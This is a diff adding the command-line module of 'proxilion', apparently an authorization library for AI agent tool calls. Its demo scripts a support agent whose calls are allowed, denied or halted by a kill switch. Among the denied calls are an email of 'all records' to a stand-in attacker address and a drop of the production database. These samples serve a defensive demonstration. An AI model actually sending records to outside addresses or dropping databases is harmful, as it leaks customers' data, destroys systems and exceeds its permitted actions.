@@ -1,0 +1,245 @@
+"""The ``proxilion`` command.
+
+Subcommands are registered in :data:`COMMANDS`: each entry adds its parser to the
+sub-parser collection and sets ``handler`` (``(args) -> exit code``). To add one (``scan``,
+``audit verify``, ``bench``, ...), write a ``_register_<name>(subparsers)`` function and append
+it to :data:`COMMANDS`.
+
+* ``proxilion demo``: a scripted agent conversation showing allowed and denied tool calls and
+  a kill-switch halt. Needs no services.
+* ``proxilion version``: the package and compatibility versions.
+* ``proxilion info``: the active hot-path backend and its build facts.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import logging
+import sys
+from collections.abc import Callable, Sequence
+from typing import Any, TextIO
+
+__all__ = ["COMMANDS", "build_parser", "main"]
+
+Handler = Callable[[argparse.Namespace], int]
+Registrar = Callable[["argparse._SubParsersAction[argparse.ArgumentParser]"], None]
+
+
+# -- demo ----------------------------------------------------------------------------------------
+
+
+def run_demo(out: TextIO) -> int:
+    """Play the demo conversation, writing one line per decision to ``out``."""
+    from proxilion import (
+        AgentContext,
+        AuthorizationError,
+        EmergencyHaltError,
+        Policy,
+        Proxilion,
+        UserContext,
+    )
+    from proxilion.security import KillSwitch
+
+    kill_switch = KillSwitch()
+    auth = Proxilion(kill_switch=kill_switch)  # deny by default
+
+    @auth.policy("customer_records")
+    class CustomerRecordsPolicy(Policy[Any]):
+        """Support staff read records; exports need an explicit permission too."""
+
+        def can_read(self, context: dict[str, Any]) -> bool:
+            return "support" in self.user.roles
+
+        def can_export(self, context: dict[str, Any]) -> bool:
+            permissions = self.user.attributes.get("permissions", [])
+            return "customer:export" in permissions and "support" in self.user.roles
+
+    @auth.policy("send_email")
+    class SendEmailPolicy(Policy[Any]):
+        """Only addresses inside the company."""
+
+        def can_execute(self, context: dict[str, Any]) -> bool:
+            return str(context.get("to", "")).endswith("@example.com")
+
+    @auth.authorize("read", resource="customer_records")
+    def get_customer(customer_id: str, user: UserContext | None = None) -> str:
+        return f"record {customer_id}"
+
+    @auth.authorize("export", resource="customer_records")
+    def export_customers(fmt: str = "csv", user: UserContext | None = None) -> str:
+        return f"export.{fmt}"
+
+    @auth.authorize("execute")
+    def send_email(to: str, body: str, user: UserContext | None = None) -> str:
+        return f"sent to {to}"
+
+    @auth.authorize("execute")
+    def drop_database(name: str, user: UserContext | None = None) -> str:
+        return f"dropped {name}"  # never reached: no policy for this tool
+
+    alice = UserContext(
+        user_id="alice", roles=["support"], session_id="s-1", attributes={"permissions": []}
+    )
+    bob = UserContext(user_id="bob", roles=["guest"], session_id="s-2")
+    agent = AgentContext(agent_id="support-agent", capabilities=["crm", "email"], trust_score=0.9)
+
+    # (user, call shown, call, what it demonstrates)
+    script: list[tuple[str, str, Callable[[], object], str]] = [
+        (
+            "alice",
+            "get_customer(customer_id='c-42')",
+            lambda: get_customer("c-42", user=alice),
+            "role 'support' present",
+        ),
+        (
+            "bob",
+            "get_customer(customer_id='c-42')",
+            lambda: get_customer("c-42", user=bob),
+            "missing role 'support'",
+        ),
+        (
+            "alice",
+            "export_customers(fmt='csv')",
+            lambda: export_customers(fmt="csv", user=alice),
+            "missing permission 'customer:export'",
+        ),
+        (
+            "alice",
+            "send_email(to='ops@example.com')",
+            lambda: send_email("ops@example.com", "weekly report", user=alice),
+            "internal address",
+        ),
+        (
+            "alice",
+            "send_email(to='attacker@evil.test')",
+            lambda: send_email("attacker@evil.test", "all records", user=alice),
+            "external address",
+        ),
+        (
+            "alice",
+            "drop_database(name='prod')",
+            lambda: drop_database("prod", user=alice),
+            "unknown resource: no policy, denied by default",
+        ),
+    ]
+
+    counts = {"allowed": 0, "denied": 0, "halted": 0}
+
+    def play(user_id: str, call_text: str, call: Callable[[], object], note: str) -> None:
+        try:
+            result = call()
+        except EmergencyHaltError as exc:
+            counts["halted"] += 1
+            verdict, detail = "HALTED ", f"reason: {exc.reason}"
+        except AuthorizationError as exc:
+            counts["denied"] += 1
+            verdict, detail = "DENIED ", f"reason: {exc.reason}"
+        else:
+            counts["allowed"] += 1
+            verdict, detail = "ALLOWED", f"result: {result!r}"
+        print(f"  {verdict}  {call_text:<38} user={user_id:<6} ({note})", file=out)
+        print(f"           {detail}", file=out)
+
+    print("proxilion demo: a support agent calls tools for two users (deny by default)", file=out)
+    print(f"  policies: {', '.join(sorted(auth.registry.list_policies()))}", file=out)
+    with auth.agent_context(agent):
+        for user_id, call_text, call, note in script:
+            play(user_id, call_text, call, note)
+        print("  -- operator activates the kill switch --", file=out)
+        kill_switch.activate(
+            reason="Severe behavioral drift detected",
+            triggered_by="operator",
+            raise_exception=False,
+        )
+        play(
+            "alice",
+            "get_customer(customer_id='c-7')",
+            lambda: get_customer("c-7", user=alice),
+            "kill switch active: every call halts",
+        )
+
+    events = auth.get_audit_events()
+    total = sum(counts.values())
+    print(
+        f"summary: {total} calls, {counts['allowed']} allowed, {counts['denied']} denied, "
+        f"{counts['halted']} halted; {len(events)} decisions recorded",
+        file=out,
+    )
+    return 0
+
+
+def _register_demo(sub: argparse._SubParsersAction[argparse.ArgumentParser]) -> None:
+    p = sub.add_parser("demo", help="run a scripted agent conversation (no services needed)")
+    p.set_defaults(handler=lambda args: run_demo(sys.stdout))
+
+
+# -- version / info ------------------------------------------------------------------------------
+
+
+def _cmd_version(args: argparse.Namespace) -> int:
+    import proxilion
+
+    print(f"proxilion {proxilion.__version__} (API of the original {proxilion.__compat_version__})")
+    return 0
+
+
+def _cmd_info(args: argparse.Namespace) -> int:
+    import proxilion
+
+    info: dict[str, Any] = {
+        "version": proxilion.__version__,
+        "compat_version": proxilion.__compat_version__,
+        "backend": proxilion.backend(),
+        "build_info": proxilion.build_info(),
+    }
+    if args.json:
+        print(json.dumps(info, sort_keys=True))
+    else:
+        print(f"proxilion {info['version']} (API of the original {info['compat_version']})")
+        print(f"backend: {info['backend']}")
+        for key, value in sorted(info["build_info"].items()):
+            print(f"  {key}: {value}")
+    return 0
+
+
+def _register_version(sub: argparse._SubParsersAction[argparse.ArgumentParser]) -> None:
+    p = sub.add_parser("version", help="print the version")
+    p.set_defaults(handler=_cmd_version)
+
+
+def _register_info(sub: argparse._SubParsersAction[argparse.ArgumentParser]) -> None:
+    p = sub.add_parser("info", help="print the active backend and build facts")
+    p.add_argument("--json", action="store_true", help="print JSON")
+    p.set_defaults(handler=_cmd_info)
+
+
+#: Subcommand registrars, in help order.
+COMMANDS: list[Registrar] = [_register_demo, _register_version, _register_info]
+
+
+def build_parser() -> argparse.ArgumentParser:
+    """The argument parser with every registered subcommand."""
+    parser = argparse.ArgumentParser(
+        prog="proxilion", description="Runtime security for LLM agent tool calls."
+    )
+    sub = parser.add_subparsers(dest="command", metavar="COMMAND")
+    for register in COMMANDS:
+        register(sub)
+    return parser
+
+
+def main(argv: Sequence[str] | None = None) -> int:
+    """Entry point of the ``proxilion`` command; returns the exit code."""
+    parser = build_parser()
+    args = parser.parse_args(argv)
+    logging.basicConfig(level=logging.WARNING, format="%(levelname)s %(name)s: %(message)s")
+    handler: Handler | None = getattr(args, "handler", None)
+    if handler is None:
+        parser.print_help()
+        return 2
+    return handler(args)
+
+
+if __name__ == "__main__":
+    sys.exit(main())
